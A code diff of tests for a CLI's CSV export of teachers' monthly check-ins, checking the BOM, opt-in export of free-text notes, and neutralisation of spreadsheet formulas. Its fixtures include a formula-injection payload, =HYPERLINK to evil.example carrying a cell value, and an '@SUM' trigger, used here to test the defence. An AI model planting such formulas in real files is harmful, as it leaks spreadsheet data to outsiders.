@@ -32,6 +32,9 @@ const GOOD_CSV =
     'ou_b1,周强,,bureau,oc_bureau,,,',
   ].join('\r\n') +
   '\r\n';
+const NOTE = '家长说"孩子很好",下周再访';
+const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"详情")';
+const T1_COUNTS = { home_visits: '6', phone_followups: '3', new_alerts: '1' };
 const GOOD_OPEN_IDS = ['ou_p1', 'ou_t1', 'ou_t2', 'ou_p3', 'ou_t4', 'ou_t5', 'ou_b1'];
 
 // Spreadsheet line numbers: the header is line 1. Lines 2, 4 and 6 are fine on their own.
@@ -78,6 +81,24 @@ function onlyLine(run: Run): string {
   const lines = run.stdout.split('\n').filter((l) => l.trim() !== '');
   expect(lines, run.stdout).toHaveLength(1);
   return lines[0]!;
+}
+
+/** The check-in export as Excel gets it: the UTF-8 BOM's bytes, then the documented header and one row per teacher. */
+function checkinsCsv(run: Run): Map<string, Record<string, string>> {
+  expect([...Buffer.from(run.stdout, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+  const text = run.stdout.slice(1);
+  expect(text.split(/\r?\n/)[0]).toBe(EXPORT_HEADER);
+  expect(text.split(/\r?\n/).filter((l) => l !== '')).toHaveLength(4); // header + 3 rows, nothing else
+  // A strict parse: a stray quote or a wrong column count would throw.
+  const records = parse(text, { columns: true, bom: false }) as Record<string, string>[];
+  expect(records.map((r) => r.open_id).sort()).toEqual(['ou_t1', 'ou_t2', 'ou_t4']);
+  return new Map(records.map((r) => [r.open_id!, r]));
+}
+
+/** An ISO-8601 instant with the +08:00 offset (not a neutralised cell), at the given moment. */
+function instant(value: string | undefined, iso: string) {
+  expect(value).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}(:\d{2}(\.\d+)?)?\+08:00$/);
+  expect(new Date(value!).getTime()).toBe(new Date(iso).getTime());
 }
 
 beforeAll(async () => {
@@ -168,8 +189,7 @@ describe('npm run cli', { timeout: 120_000 }, () => {
     expect(report.rounds.opened.map((o) => o.campaign)).toEqual(['monthly-monitoring', 'principal-monthly-plan', 'annual-report']);
   });
 
-  it('export checkins --period prints one CSV row per stored check-in', async () => {
-    const note = '家长说"孩子很好",下周再访';
+  it('export checkins --period --with-notes prints one CSV row per stored check-in, for Excel: BOM first, formulas neutralised', async () => {
     await withDb(async (db) => {
       const t1 = await personOf(db, 'ou_t1');
       const t2 = await personOf(db, 'ou_t2');
@@ -177,50 +197,48 @@ describe('npm run cli', { timeout: 120_000 }, () => {
       const at = (iso: string) => new Date(iso);
       await recordMonthlyCheckIn(db, at('2026-12-02T10:00:00+08:00'), { person: t1, source: 'text', values: { homeVisits: 5, phoneFollowups: 3, newAlerts: 1, note: null } });
       // A correction: the earlier answer becomes a revision.
-      await recordMonthlyCheckIn(db, at('2026-12-03T11:30:15+08:00'), { person: t1, source: 'card', values: { homeVisits: 6, phoneFollowups: 3, newAlerts: 1, note } });
-      await recordMonthlyCheckIn(db, at('2026-12-05T08:00:00+08:00'), { person: t2, source: 'text', values: { homeVisits: 2, phoneFollowups: 0, newAlerts: 0, note: null } });
+      await recordMonthlyCheckIn(db, at('2026-12-03T11:30:15+08:00'), { person: t1, source: 'card', values: { homeVisits: 6, phoneFollowups: 3, newAlerts: 1, note: NOTE } });
+      await recordMonthlyCheckIn(db, at('2026-12-05T08:00:00+08:00'), { person: t2, source: 'text', values: { homeVisits: 2, phoneFollowups: 0, newAlerts: 0, note: HYPERLINK } });
       // After the deadline (25th 18:00): late.
-      await recordMonthlyCheckIn(db, at('2026-12-26T08:00:00+08:00'), { person: t4, source: 'text', values: { homeVisits: 1, phoneFollowups: 1, newAlerts: 0, note: '补交' } });
+      await recordMonthlyCheckIn(db, at('2026-12-26T08:00:00+08:00'), { person: t4, source: 'text', values: { homeVisits: 1, phoneFollowups: 1, newAlerts: 0, note: '@SUM(A1:A9)' } });
     });
 
-    const run = await cli('export', 'checkins', '--period', '2026-12');
+    const run = await cli('export', 'checkins', '--period', '2026-12', '--with-notes');
     expect(run.code, run.stderr).toBe(0);
-    expect(run.stdout.split(/\r?\n/)[0]).toBe(EXPORT_HEADER);
-    expect(run.stdout.split(/\r?\n/).filter((l) => l !== '')).toHaveLength(4); // header + 3 rows, nothing else
-
-    // A strict parse: a stray quote or a wrong column count would throw.
-    const records = parse(run.stdout, { columns: true, bom: false }) as Record<string, string>[];
-    expect(records).toHaveLength(3);
-    const byOpenId = new Map(records.map((r) => [r.open_id, r]));
-    expect([...byOpenId.keys()].sort()).toEqual(['ou_t1', 'ou_t2', 'ou_t4']);
-
-    const instant = (value: string | undefined, iso: string) => {
-      expect(value).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}(:\d{2}(\.\d+)?)?\+08:00$/);
-      expect(new Date(value!).getTime()).toBe(new Date(iso).getTime());
-    };
+    expect(run.stderr).toBe('');
+    const byOpenId = checkinsCsv(run);
 
     const t1 = byOpenId.get('ou_t1')!;
-    expect(t1).toMatchObject({
-      period: '2026-12',
-      town: '横渠镇',
-      school: '横渠镇中心小学',
-      teacher: '张国敏',
-      home_visits: '6',
-      phone_followups: '3',
-      new_alerts: '1',
-      note,
-      late: 'false',
-      revisions: '1',
-    });
+    expect(t1).toMatchObject({ period: '2026-12', town: '横渠镇', school: '横渠镇中心小学', teacher: '张国敏', ...T1_COUNTS, note: NOTE, late: 'false', revisions: '1' });
     instant(t1.submitted_at, '2026-12-03T11:30:15+08:00');
 
+    // Excel would run these as formulas; a leading ' makes them text, the rest kept as written.
     const t2 = byOpenId.get('ou_t2')!;
-    expect(t2).toMatchObject({ period: '2026-12', teacher: '李志军', home_visits: '2', phone_followups: '0', new_alerts: '0', note: '', late: 'false', revisions: '0' });
+    expect(t2).toMatchObject({ period: '2026-12', teacher: '李志军', home_visits: '2', phone_followups: '0', new_alerts: '0', note: `'${HYPERLINK}`, late: 'false', revisions: '0' });
     instant(t2.submitted_at, '2026-12-05T08:00:00+08:00');
 
     const t4 = byOpenId.get('ou_t4')!;
-    expect(t4).toMatchObject({ period: '2026-12', town: '齐镇', school: '齐镇中心小学', teacher: '陈静', note: '补交', late: 'true', revisions: '0' });
+    expect(t4).toMatchObject({ period: '2026-12', town: '齐镇', school: '齐镇中心小学', teacher: '陈静', note: "'@SUM(A1:A9)", late: 'true', revisions: '0' });
     instant(t4.submitted_at, '2026-12-26T08:00:00+08:00');
+  });
+
+  it('export checkins without --with-notes leaves the note column empty (header unchanged) and says so on stderr', async () => {
+    const run = await cli('export', 'checkins', '--period', '2026-12');
+    expect(run.code, run.stderr).toBe(0);
+    expect(run.stderr.trim().split('\n')).toEqual(['自由填写的文字栏（note）可能写有学生姓名，本次导出已留空；确需导出请加 --with-notes。']);
+    const byOpenId = checkinsCsv(run);
+    for (const record of byOpenId.values()) expect(record.note, record.open_id).toBe('');
+    expect(byOpenId.get('ou_t1')).toMatchObject({ teacher: '张国敏', ...T1_COUNTS, revisions: '1' });
+    expect(run.stdout).not.toContain('HYPERLINK');
+    expect(run.stdout).not.toContain('孩子很好');
+  });
+
+  it('export --help explains --with-notes and the free-text columns', async () => {
+    const run = await cli('export', '--help');
+    expect(run.code).toBe(0);
+    expect(run.stdout).toContain('--with-notes');
+    expect(run.stdout).toContain('type 为 text 的字段');
+    expect(run.stdout).toContain('UTF-8 BOM');
   });
 
   it('export checkins refuses a bad --period on stderr', async () => {
